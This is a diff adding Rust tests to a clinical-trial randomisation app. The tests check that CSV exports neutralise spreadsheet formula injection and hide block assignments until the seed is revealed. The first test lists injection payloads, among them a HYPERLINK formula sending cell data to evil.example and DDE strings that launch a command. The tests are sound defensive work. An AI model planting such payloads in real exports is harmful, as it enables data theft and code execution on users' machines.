@@ -88,6 +88,113 @@ fn csv_export(db: TestDb) {
 }
 both_backends!(csv_export);
 
+/// Spreadsheet formula payloads in user text are written with a leading `'`; numbers never.
+fn csv_is_formula_safe(db: TestDb) {
+    let app = TestApp::spawn(db);
+    let inv = app.user("ines", "investigator", &[]);
+    let pharm = app.user("paul", "pharmacist", &[]);
+    let mon = app.user("mona", "monitor", &[]);
+    let payloads = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"details\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    for (i, payload) in payloads.iter().enumerate() {
+        let a = enroll(&app, &inv, &pharm, &format!("SITE01-{i:04}"), "SITE01");
+        let r = app.post(
+            &inv,
+            &format!(
+                "{T}/subjects/{}/withdrawal",
+                a["subject_id"].as_str().unwrap()
+            ),
+            &json!({ "reason": payload }),
+        );
+        // Tab and carriage return are control characters a reason may refuse outright.
+        assert!(
+            r.status() == 200 || r.status() == 422,
+            "{payload:?}: {}",
+            r.status()
+        );
+    }
+    let (_, text) = export(&app, &mon, "csv");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let reason = header
+        .iter()
+        .position(|h| h == "withdrawal_reason")
+        .unwrap();
+    let sequence = header.iter().position(|h| h == "sequence").unwrap();
+    let mut seen = 0;
+    for row in reader.records().map(|r| r.unwrap()) {
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "formula cell {cell:?} in {row:?}"
+            );
+        }
+        if !row[reason].is_empty() {
+            seen += 1;
+            assert!(row[reason].starts_with('\''), "{row:?}");
+            assert!(
+                payloads.iter().any(|p| p.trim() == &row[reason][1..]),
+                "{row:?}"
+            );
+        }
+        assert!(row[sequence].parse::<i64>().is_ok(), "numbers stay numbers");
+    }
+    assert!(
+        seen >= 4,
+        "the printable payloads were all exported: {seen}"
+    );
+}
+both_backends!(csv_is_formula_safe);
+
+/// Block index and size appear in exports only after the seed is revealed, computed from it.
+fn exports_show_blocks_only_after_reveal(db: TestDb) {
+    let (app, mon, subjects) = trial_with_subjects(db);
+    for format in ["csv", "json", "fhir"] {
+        let (_, text) = export(&app, &mon, format);
+        for secret in ["block_index", "block_size\"", "\"filled\""] {
+            assert!(
+                !text.contains(secret),
+                "{format} shows {secret} before reveal: {text}"
+            );
+        }
+    }
+    let r = app.post(
+        &app.admin,
+        &format!("{T}/close"),
+        &json!({"reason": "end of accrual", "reveal_seed": true}),
+    );
+    assert_eq!(r.status(), 200);
+    let seed = trialgate::randomization::Seed::read_file(&app.seed_file(TRIAL)).unwrap();
+    let protocol = trialgate::protocol::Protocol::default_trial().unwrap();
+    let schedule: Vec<_> =
+        trialgate::randomization::Schedule::new(&seed, TRIAL, "", protocol.design())
+            .take(subjects.len())
+            .collect();
+    let (_, text) = export(&app, &mon, "json");
+    let doc: Value = serde_json::from_str(&text).unwrap();
+    for (e, due) in doc["subjects"].as_array().unwrap().iter().zip(&schedule) {
+        assert_eq!(e["block_index"], due.block_index, "{e}");
+        assert_eq!(e["block_size"], due.block_size, "{e}");
+    }
+    assert!(doc["balance"]["blocks"].is_array());
+    let (_, text) = export(&app, &mon, "csv");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let index = header.iter().position(|h| h == "block_index").unwrap();
+    let size = header.iter().position(|h| h == "block_size").unwrap();
+    for (row, due) in reader.records().map(|r| r.unwrap()).zip(&schedule) {
+        assert_eq!(row[index], due.block_index.to_string());
+        assert_eq!(row[size], due.block_size.to_string());
+    }
+}
+both_backends!(exports_show_blocks_only_after_reveal);
+
 fn json_export(db: TestDb) {
     let (app, mon, subjects) = trial_with_subjects(db);
     let (content_type, text) = export(&app, &mon, "json");
